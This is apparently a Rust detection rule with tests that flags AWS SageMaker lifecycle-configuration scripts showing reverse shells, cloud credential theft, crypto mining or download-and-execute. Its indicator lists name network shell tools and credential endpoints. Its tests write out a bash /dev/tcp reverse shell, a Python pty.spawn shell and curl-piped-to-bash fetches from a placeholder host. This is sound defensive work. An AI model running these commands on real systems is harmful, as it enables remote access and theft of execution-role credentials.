//! A lifecycle configuration whose script looks like an attack: reverse shell, credential
//! theft, crypto mining, or downloading and running code.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use serde_json::Value;

use crate::rules::prelude::*;
use crate::rules::support::{Reasons, or_unknown};

pub const RULE: BuiltinRule = BuiltinRule {
    metadata: Metadata {
        id: "sagemaker.lifecycle_config_suspicious",
        title: "SageMaker lifecycle configuration with a suspicious script",
        severity: Severity::High,
        area: Area::Application,
        techniques: &["T1059", "T1552.005", "T1496", "T1105", "AML.T0010"],
        description: "A notebook-instance or Studio lifecycle configuration was created or \
            updated with a shell script (decoded from the request's base64) that shows attack \
            tooling. Lifecycle scripts run as root on every create or start of the notebooks \
            that use them, with the notebook's execution role, which makes them a quiet way to \
            persist and to steal that role. Indicators, matched case-insensitively: a reverse \
            shell (/dev/tcp/, bash -i, nc -e, ncat, socat, mkfifo, a socket with pty.spawn or \
            dup2) and credential theft (the instance-metadata credentials path, the container \
            credentials endpoint 169.254.170.2 or its environment variable) are critical; a \
            crypto miner (xmrig, stratum+tcp, minerd, cryptonight, nicehash, monero) or \
            download-and-execute (curl or wget piped to a shell, or a download made executable \
            with chmod) is high; a plain query of the instance-metadata service, which benign \
            scripts also make, is medium. The finding names each indicator found. Scripts \
            that CloudTrail leaves out or redacts cannot be judged and raise nothing.",
        remediation: "Read the full script (DescribeNotebookInstanceLifecycleConfig or \
            DescribeStudioLifecycleConfig). If it is not yours, detach it from every notebook \
            and domain, delete it, stop the notebooks that ran it, revoke the sessions of their \
            execution roles, and review the caller's credentials. Restrict \
            sagemaker:*LifecycleConfig* to the platform team.",
        controls: &[],
        events: &[
            ("sagemaker.amazonaws.com", "CreateNotebookInstanceLifecycleConfig"),
            ("sagemaker.amazonaws.com", "UpdateNotebookInstanceLifecycleConfig"),
            ("sagemaker.amazonaws.com", "CreateStudioLifecycleConfig"),
        ],
        resource_types: &[],
        failed_calls: false,
        alert: AlertScope {
            per: DedupeScope::PrincipalResource,
            window_secs: HOUR,
        },
        samples: Samples {
            must_fire: &[
                "events/sagemaker/CreateNotebookInstanceLifecycleConfig-reverse-shell.json",
                "events/sagemaker/UpdateNotebookInstanceLifecycleConfig-miner.json",
                "events/sagemaker/CreateStudioLifecycleConfig-credential-theft.json",
            ],
            must_not_fire: &[
                "events/sagemaker/CreateNotebookInstanceLifecycleConfig.json",
                "events/sagemaker/UpdateNotebookInstanceLifecycleConfig-redacted.json",
            ],
        },
    },
    check,
};

/// One family of attack indicators: its name, severity, and a search returning the evidence.
struct Indicator {
    label: &'static str,
    severity: Severity,
    find: fn(&str) -> Option<String>,
}

const INDICATORS: &[Indicator] = &[
    Indicator {
        label: "reverse shell",
        severity: Severity::Critical,
        find: reverse_shell,
    },
    Indicator {
        label: "credential theft",
        severity: Severity::Critical,
        find: credential_theft,
    },
    Indicator {
        label: "crypto miner",
        severity: Severity::High,
        find: miner,
    },
    Indicator {
        label: "download and execute",
        severity: Severity::High,
        find: download_and_execute,
    },
    Indicator {
        label: "instance metadata query",
        severity: Severity::Medium,
        find: metadata_query,
    },
];

fn check(ev: &Event, _: &Organization) -> Option<Hit> {
    let (kind, name, arn) = match ev.name() {
        "CreateStudioLifecycleConfig" => (
            "Studio lifecycle configuration",
            ev.req_str("studioLifecycleConfigName"),
            ev.resp_str("studioLifecycleConfigArn"),
        ),
        _ => (
            "notebook lifecycle configuration",
            ev.req_str("notebookInstanceLifecycleConfigName"),
            ev.resp_str("notebookInstanceLifecycleConfigArn"),
        ),
    };
    let scripts: Vec<String> = ["onCreate", "onStart", "studioLifecycleConfigContent"]
        .iter()
        .filter_map(|field| ev.req(field))
        .flat_map(contents)
        .filter_map(decode)
        .collect();
    if scripts.is_empty() {
        return None; // absent or redacted: nothing to judge
    }
    let script = scripts.join("\n");
    let mut reasons = Reasons::default();
    for ind in INDICATORS {
        if let Some(evidence) = (ind.find)(&script) {
            reasons.add(ind.severity, format!("{} ({evidence})", ind.label));
        }
    }
    let verb = if ev.name().starts_with("Update") {
        "updated"
    } else {
        "created"
    };
    let action = format!("{verb} {kind} {} with a suspicious script", or_unknown(name));
    Some(reasons.hit(&action)?.resource(name).resource(arn))
}

/// The base64 texts of a script field: a string, a `{content}` object, or a list of those.
fn contents(v: &Value) -> Vec<&str> {
    match v {
        Value::String(s) => vec![s.as_str()],
        Value::Object(o) => o.get("content").and_then(Value::as_str).into_iter().collect(),
        Value::Array(items) => items.iter().flat_map(contents).collect(),
        _ => Vec::new(),
    }
}

/// Decodes a base64 script to lower-case text; `None` when it is not base64 (redacted).
fn decode(b64: &str) -> Option<String> {
    let clean: String = b64.chars().filter(|c| !c.is_whitespace()).collect();
    let bytes = STANDARD.decode(clean).ok().filter(|b| !b.is_empty())?;
    Some(String::from_utf8_lossy(&bytes).to_lowercase())
}

/// The first needle found in `text` that does not continue a longer word on its left
/// (`ncat` must not match inside `concatenate`).
fn first_word(text: &str, needles: &[&'static str]) -> Option<&'static str> {
    needles.iter().copied().find(|needle| {
        let word_start = needle.starts_with(|c: char| c.is_ascii_alphanumeric());
        text.match_indices(needle).any(|(i, _)| {
            !word_start
                || text[..i]
                    .chars()
                    .next_back()
                    .is_none_or(|c| !(c.is_ascii_alphanumeric() || c == '_'))
        })
    })
}

fn reverse_shell(text: &str) -> Option<String> {
    let tools = [
        "/dev/tcp/",
        "/dev/udp/",
        "bash -i",
        "nc -e",
        "nc -c",
        "ncat",
        "socat",
        "mkfifo",
    ];
    if let Some(found) = first_word(text, &tools) {
        return Some(found.to_owned());
    }
    let spawns = first_word(text, &["pty.spawn", "dup2"]);
    first_word(text, &["socket"])
        .and(spawns)
        .map(|s| format!("socket with {s}"))
}

fn credential_theft(text: &str) -> Option<String> {
    let needles = [
        "iam/security-credentials",
        "169.254.170.2",
        "aws_container_credentials_relative_uri",
        "aws_container_credentials_full_uri",
    ];
    first_word(text, &needles).map(str::to_owned)
}

fn metadata_query(text: &str) -> Option<String> {
    if credential_theft(text).is_some() {
        return None; // already reported as credential theft
    }
    first_word(text, &["169.254.169.254", "fd00:ec2::254"]).map(str::to_owned)
}

fn miner(text: &str) -> Option<String> {
    let needles = [
        "xmrig",
        "stratum+tcp",
        "stratum+ssl",
        "minerd",
        "cryptonight",
        "nicehash",
        "monero",
    ];
    first_word(text, &needles).map(str::to_owned)
}

/// Programs that run a script read from a pipe.
const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "python", "python3", "perl"];

/// Commands that make a file executable.
const CHMOD_EXECUTABLE: &[&str] = &["chmod +x", "chmod a+x", "chmod u+x", "chmod 7", "chmod 07"];

fn download_and_execute(text: &str) -> Option<String> {
    let lines: Vec<&str> = text.lines().collect();
    // The last line that makes a file executable: a download on it or before it may be run.
    // Found once, so the work stays linear in the script however many downloads it holds.
    let last_chmod = lines
        .iter()
        .rposition(|l| CHMOD_EXECUTABLE.iter().any(|c| l.contains(c)));
    for (n, line) in lines.iter().enumerate() {
        let Some(tool) = first_word(line, &["curl", "wget"]) else {
            continue;
        };
        let after = &line[line.find(tool).unwrap_or(0)..];
        let url = after
            .split_whitespace()
            .map(|t| t.trim_matches(|c| c == '"' || c == '\''))
            .find(|t| t.starts_with("http://") || t.starts_with("https://"))
            .unwrap_or(tool);
        // curl … | sh, curl … | sudo bash
        let piped = after.split('|').skip(1).any(|segment| {
            let mut words = segment
                .split_whitespace()
                .filter(|w| *w != "sudo" && !w.starts_with('-'));
            words
                .next()
                .is_some_and(|w| SHELLS.contains(&w.rsplit('/').next().unwrap_or(w)))
        });
        // bash <(curl …), sh -c "$(curl …)"
        let substituted =
            line.contains(&format!("<({tool}")) || (line.contains(&format!("$({tool}")) && line.contains("sh -c"));
        // curl -o x … && chmod +x x (on this line or later)
        let saves = after
            .split_whitespace()
            .any(|t| t.starts_with("--output") || (t.starts_with('-') && !t.starts_with("--") && t.contains('o')));
        let made_executable = saves && last_chmod.is_some_and(|last| last >= n);
        if piped || substituted || made_executable {
            return Some(url.to_owned());
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn indicators_and_near_misses() {
        assert_eq!(
            reverse_shell("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1").as_deref(),
            Some("/dev/tcp/")
        );
        assert_eq!(
            reverse_shell("python3 -c 'import socket,os,pty;s=socket.socket();pty.spawn(\"/bin/sh\")'").as_deref(),
            Some("socket with pty.spawn")
        );
        assert_eq!(reverse_shell("python -c 'print(\"\".join([\"concatenate\"]))'"), None);
        assert_eq!(reverse_shell("rsync -e ssh a b"), None);
        assert!(download_and_execute("curl -fssl https://x.example/i.sh | sudo bash").is_some());
        assert!(download_and_execute("bash <(wget -qo- https://x.example/i.sh)").is_some());
        assert!(download_and_execute("wget -o /tmp/a https://x.example/a && chmod +x /tmp/a && /tmp/a").is_some());
        assert_eq!(
            download_and_execute("curl -s https://pypi.org/simple/ | grep numpy\nwget https://x.example/a.py"),
            None
        );
        assert_eq!(
            metadata_query("curl http://169.254.169.254/latest/meta-data/placement/region").as_deref(),
            Some("169.254.169.254")
        );
        assert_eq!(
            metadata_query("curl 169.254.169.254/latest/meta-data/iam/security-credentials/r"),
            None
        );
        assert_eq!(decode("HIDDEN_DUE_TO_SECURITY_REASONS"), None);
    }

    #[test]
    fn a_download_is_made_executable_on_its_line_or_after() {
        let later = "wget -o /tmp/a https://x.example/a\necho hi\nchmod 755 /tmp/a\n";
        assert_eq!(download_and_execute(later).as_deref(), Some("https://x.example/a"));
        let earlier = "chmod +x /opt/setup.sh\ncurl -o /tmp/data.csv https://x.example/data.csv\n";
        assert_eq!(download_and_execute(earlier), None);
        // Many downloads and no chmod: none, in one pass over the lines.
        assert_eq!(download_and_execute(&"curl -o x\n".repeat(20_000)), None);
    }
}
